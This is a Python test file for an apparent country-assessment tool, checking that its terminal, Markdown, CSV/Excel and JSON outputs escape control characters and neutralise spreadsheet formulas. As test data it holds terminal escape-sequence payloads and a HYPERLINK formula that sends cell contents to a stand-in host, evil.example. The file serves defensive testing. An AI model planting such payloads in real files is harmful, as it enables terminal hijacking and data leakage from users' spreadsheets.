"""No renderer writes a control character raw, nor lets data start a formula (issue 10, items 2
and 3).

`check` rejects such characters in the data; these tests are for the second line of defence, so
they call the renderers directly on model objects that hold them (a file `check` would refuse
is still loaded, and text can come from a workbook). Every text field of the shipped catalogue,
Mongolia and Kazakhstan is spoiled; each output is then read back: the terminal's as the bytes
it writes (with colour and without), Markdown with markdown-it (and LibreOffice, for what a
secretariat pastes into a spreadsheet), CSV with the csv module, JSON with the json module.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console
from rich.table import Table
from rich.text import Text

from safe_map import analysis
from safe_map.catalogue import load_framework
from safe_map.countries import load_country
from safe_map.render import csv_format, markdown, terminal, text
from safe_map.render.csv_format import for_spreadsheet, from_spreadsheet
from safe_map.render.neutralise import UNSAFE, json_escaped, replaced, visible

from .conftest import ROOT

# Clear the screen, set the window title, ring, 8-bit CSI, overwrite the line, and what XML
# cannot hold.
NASTY = "\x1b[2J\x1b]0;pwned\x07\x9b31m\x7f\x08\r\x00\ufffe\uffff"
# Markup for rich, which must show as typed and never fail ("[/]" closes nothing).
MARKUP = "[link=http://evil.example]click[/link] [bold]b[/] :smile:"
# What a spreadsheet runs.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SGR = re.compile("\x1b\\[[0-9;]*m")  # the colours rich writes itself


def spoil(value: str) -> str:
    return f"{value} {NASTY}"


@pytest.fixture(scope="module")
def hostile():
    """The shipped catalogue, Mongolia and Kazakhstan with every text spoiled: NASTY after each
    one, rich markup in titles and names, a formula at the start of notes and citations."""
    framework, _ = load_framework(ROOT / "standards" / "safe-2021.yaml", "standards/safe-2021")
    mongolia, _ = load_country(ROOT / "countries" / "mongolia.yaml", "countries/mongolia.yaml")
    kazakhstan, _ = load_country(ROOT / "countries" / "kazakhstan.yaml", "countries/kz.yaml")
    assert framework and mongolia and kazakhstan
    for name in ("title", "short_title", "edition", "publisher", "id", "status"):
        setattr(framework, name, spoil(getattr(framework, name) or ""))
    for pillar in framework.pillars:
        pillar.name = spoil(pillar.name) + " " + MARKUP
        for standard in pillar.standards:
            standard.title = MARKUP + " " + spoil(standard.title)
            standard.remedy = spoil(standard.remedy)
            standard.summary = spoil(standard.summary)
    for country in (mongolia, kazakhstan):
        country.name = spoil(country.name) + " " + MARKUP
        country.iso = country.iso + "\x1b[8m"  # ESC in `iso`, as the issue found
        country.sources = [replace(s, title=spoil(s.title)) for s in country.sources]
        for key, instrument in list(country.instruments.items()):
            country.instruments[key] = replace(instrument, title=FORMULA + spoil(""))
        for assessment in country.assessments.values():
            assessment.notes = "@SUM(1,2)" + spoil("")
        country.recommendations = [replace(r, text=spoil(r.text)) for r in country.recommendations]
    return framework, mongolia, kazakhstan


def outputs(hostile, width: int = 100) -> dict[str, str]:
    """Every text output of every view, by name; the terminal's `width` columns wide."""
    framework, mn, kz = hostile
    report = analysis.assess(mn, framework)
    comparison = analysis.compare(mn, kz, framework)
    countries = [(c, framework, analysis.overall_score(c, framework)) for c in (mn, kz)]
    changes = analysis.progress(kz, mn, framework, "HEAD~1\x1b[2J")
    return {
        "markdown assess": markdown.report_markdown(report),
        "markdown standards": markdown.standards_markdown(framework, None),
        "markdown countries": markdown.countries_markdown(countries),
        "markdown compare": markdown.comparison_markdown(comparison),
        "csv assess": csv_format.report_csv(report),
        "csv standards": csv_format.standards_csv(framework, None),
        "csv countries": csv_format.countries_csv(countries),
        "excel assess": csv_format.report_csv(report, excel=True),
        "excel standards": csv_format.standards_csv(framework, None, excel=True),
        "excel countries": csv_format.countries_csv(countries, excel=True),
        "json assess": text.dumps(text.report_json(report, root=ROOT)),
        "json standards": text.dumps(text.standards_json(framework, None)),
        "json countries": text.dumps(text.countries_json(countries, root=ROOT)),
        "json compare": text.dumps(text.comparison_json(comparison)),
        "json changes": text.dumps(text.changes_json(changes)),
        "json region": text.dumps(
            text.heat_map_json(framework, [mn, kz], [t for _c, _f, t in countries])
        ),
        **{
            f"terminal {name}{' in colour' if colour else ''}": shown(renderable, colour, width)
            for name, renderable in {
                "assess": terminal.report(report),
                "standards": terminal.standards(framework, None),
                "countries": terminal.countries(countries),
                "compare": terminal.comparison(comparison),
                "region": terminal.heat_map(framework, [mn, kz], [t for _c, _f, t in countries]),
                "changes": terminal.changes(changes),
            }.items()
            for colour in (False, True)
        },
    }


def shown(renderable, colour: bool, width: int = 100) -> str:
    """What the terminal receives, as safe-map's console writes it."""
    out = io.StringIO()
    console = terminal.make_console(file=out, width=width, color=None if colour else False)
    if colour:
        console._force_terminal = True  # as on a terminal: styles as escape sequences
    console.print(renderable)
    return out.getvalue()


def test_rich_passes_escape_sequences_through_even_in_text():
    """Why terminal.py escapes: a rich Text, markup off, still writes ESC, C1 and DEL raw."""
    out = io.StringIO()
    Console(file=out, width=80, no_color=True).print(Text(NASTY))
    assert "\x1b[2J" in out.getvalue() and "\x9b" in out.getvalue()


def test_no_output_holds_an_unsafe_character(hostile):
    for name, output in outputs(hostile).items():
        if name.startswith("terminal") and name.endswith("colour"):
            assert "\x1b[2J" not in output, name
            output = SGR.sub("", output)  # rich's own styles are the only escapes left
        if name.startswith("excel"):
            output = output.replace("\r\n", "\n")  # the record ends RFC 4180 asks for
        assert not UNSAFE.search(output), (name, UNSAFE.findall(output)[:5])


def test_the_terminal_shows_each_character_as_an_escape_and_markup_as_typed(hostile):
    # Wide enough that no table folds a name: each text reads whole on its line.
    for name, output in outputs(hostile, width=300).items():
        if not name.startswith("terminal"):
            continue
        plain = SGR.sub("", output)
        # NASTY as check writes it: every character there, as an escape.
        assert visible(NASTY) in plain, name
        assert "[link=http://evil.example]click[/link] [bold]b[/] :smile:" in plain, name
        assert "\x1b]8;" not in output  # no hyperlink was made


def test_the_console_escapes_what_reached_it_without_data(hostile):
    """The last resort: text put straight into a renderable is escaped on the way out."""
    assert shown(Text("a\x1b[2Jb"), colour=False) == "a\\x1b[2Jb\n"
    assert SGR.sub("", shown(Text("a\x1b[2Jb"), colour=True)) == "a\\x1b[2Jb\n"
    table = Table.grid()
    table.add_row(Text("\x1b[2J"), Text("b\x9b"))  # nested: rendered through the console too
    assert shown(table, colour=False).rstrip() == "\\x1b[2Jb\\x9b"


def test_markdown_shows_replacements_and_no_formula(hostile):
    framework, mn, _kz = hostile
    page = (
        MarkdownIt("commonmark")
        .enable("table")
        .render(markdown.report_markdown(analysis.assess(mn, framework)))
    )
    cells = re.findall(r"<td>(.*?)</td>", page)
    notes = [c for c in cells if "SUM" in c]
    # The carriage return is CommonMark whitespace: a space, as every line break in a cell.
    expected = "\u200b@SUM(1,2) " + replaced(NASTY.replace("\r", " "))
    assert notes and all(n.startswith(expected) for n in notes), notes[:1]
    bases = [c for c in cells if "HYPERLINK" in c]
    assert bases and all(b.startswith("\u200b=HYPERLINK(") for b in bases)


def test_csv_replaces_and_neutralises_in_both_forms(hostile):
    framework, mn, _kz = hostile
    for excel in (False, True):
        data = csv_format.report_csv(analysis.assess(mn, framework), excel=excel)
        rows = list(csv.DictReader(io.StringIO(data.removeprefix("\ufeff"), newline="")))
        assessed = [r for r in rows if r["notes"]]
        assert assessed
        for row in assessed:
            # The assessment's note, then its citations' notes.
            assert row["notes"].startswith("'@SUM(1,2) " + replaced(NASTY))
            assert from_spreadsheet(row["notes"]).startswith("@SUM(1,2) " + replaced(NASTY))
            if row["legal_basis"]:
                assert row["legal_basis"].startswith("'=HYPERLINK(")


def test_json_keeps_every_value_exact(hostile):
    """JSON is the exact interface: read back, each value is the data's, characters and all."""
    framework, mn, _kz = hostile
    data = json.loads(text.dumps(text.report_json(analysis.assess(mn, framework), root=ROOT)))
    assert data["country"]["name"] == mn.name
    assert data["country"]["iso"] == mn.iso
    notes = [s["notes"] for s in data["standards"] if s["notes"]]
    assert notes and all(n.startswith("@SUM(1,2) " + NASTY) for n in notes)
    assert data["standards"][0]["title"] == framework.standards[0].title


@pytest.mark.parametrize(
    ("char", "written"),
    [
        ("\x1b", "\\u001b"),  # json.dumps's own
        ("\x07", "\\u0007"),
        ("\x7f", "\\u007f"),  # the rest, by json_escaped
        ("\x9b", "\\u009b"),
        ("\ufffe", "\\ufffe"),
        ("\uffff", "\\uffff"),
        ("\ud800", "\\ud800"),
        ("\t", "\\t"),
        ("é", "é"),
    ],
)
def test_json_writes_unsafe_characters_as_escapes(char, written):
    dumped = text.dumps({"notes": f"a{char}b"})
    assert dumped == f'{{\n  "notes": "a{written}b"\n}}\n'
    assert json.loads(dumped) == {"notes": f"a{char}b"}


@pytest.mark.parametrize(
    ("raw", "terminal_form"),
    [
        ("\x1b[2J", "\\x1b[2J"),
        (NASTY, "\\x1b[2J\\x1b]0;pwned\\x07\\x9b31m\\x7f\\x08\\r\\x00\\ufffe\\uffff"),
        ("\x07", "\\x07"),
        ("a\rb", "a\\rb"),
        ("\x9b", "\\x9b"),
        ("\x7f", "\\x7f"),
        ("\ufffe\uffff\ud800", "\\ufffe\\uffff\\ud800"),
        ("tab\tand\nline", "tab\tand\nline"),
        ("Таможня ✔ \u200b", "Таможня ✔ \u200b"),
    ],
)
def test_visible_and_replaced(raw, terminal_form):
    assert visible(raw) == terminal_form
    assert replaced(raw) == UNSAFE.sub("\ufffd", raw)
    assert len(replaced(raw)) == len(raw)


# Any text at all, surrogates included.
ANY = st.text(st.characters(codec=None, exclude_categories=()), max_size=30)


@settings(max_examples=300, deadline=None)
@given(ANY)
def test_any_text_comes_out_safe_from_every_function_data_goes_through(value):
    for out in (visible(value), replaced(value), markdown.escape(value), for_spreadsheet(value)):
        assert not UNSAFE.search(out)
    cell = for_spreadsheet(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert from_spreadsheet(cell) == replaced(value)
    assert not markdown.escape(value).startswith(("=", "+", "-", "@"))
    dumped = json_escaped(json.dumps(value, ensure_ascii=False))
    assert not UNSAFE.search(dumped)
    assert json.loads(dumped) == value


# --- what a secretariat pastes into a spreadsheet ---------------------------------------------

SOFFICE = shutil.which("soffice")


@pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice (soffice) not installed: apt-get install libreoffice-calc-nogui",
)
def test_a_rendered_markdown_table_pasted_into_a_spreadsheet_runs_no_formula(tmp_path):
    """LibreOffice reads an HTML table as it reads one pasted: `=1+1` in a cell becomes a
    formula; the same cell from escape() stays text, and shows the data after the space."""
    cells = ["=1+1", "@SUM(1,2)", "-1+2", "+1+2"]
    table = "| a | b |\n|---|---|\n" + "".join(
        f"| {raw} | {markdown.escape(raw)} |\n" for raw in cells
    )
    page = tmp_path / "pasted.html"
    page.write_text(
        "<html><body>" + MarkdownIt("commonmark").enable("table").render(table) + "</body></html>",
        encoding="utf-8",
    )
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{tmp_path}/lo-profile",
            "--headless",
            "--infilter=HTML (StarCalc)",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path / "out"),
            str(page),
        ],
        check=True,
        timeout=180,
        capture_output=True,
    )
    from openpyxl import load_workbook

    rows = list(load_workbook(tmp_path / "out" / "pasted.xlsx").active.iter_rows())[1:]
    assert rows[0][0].data_type == "f"  # what an unescaped cell does
    for row, raw in zip(rows, cells, strict=True):
        assert row[1].data_type == "s", raw
        assert row[1].value == "\u200b" + raw
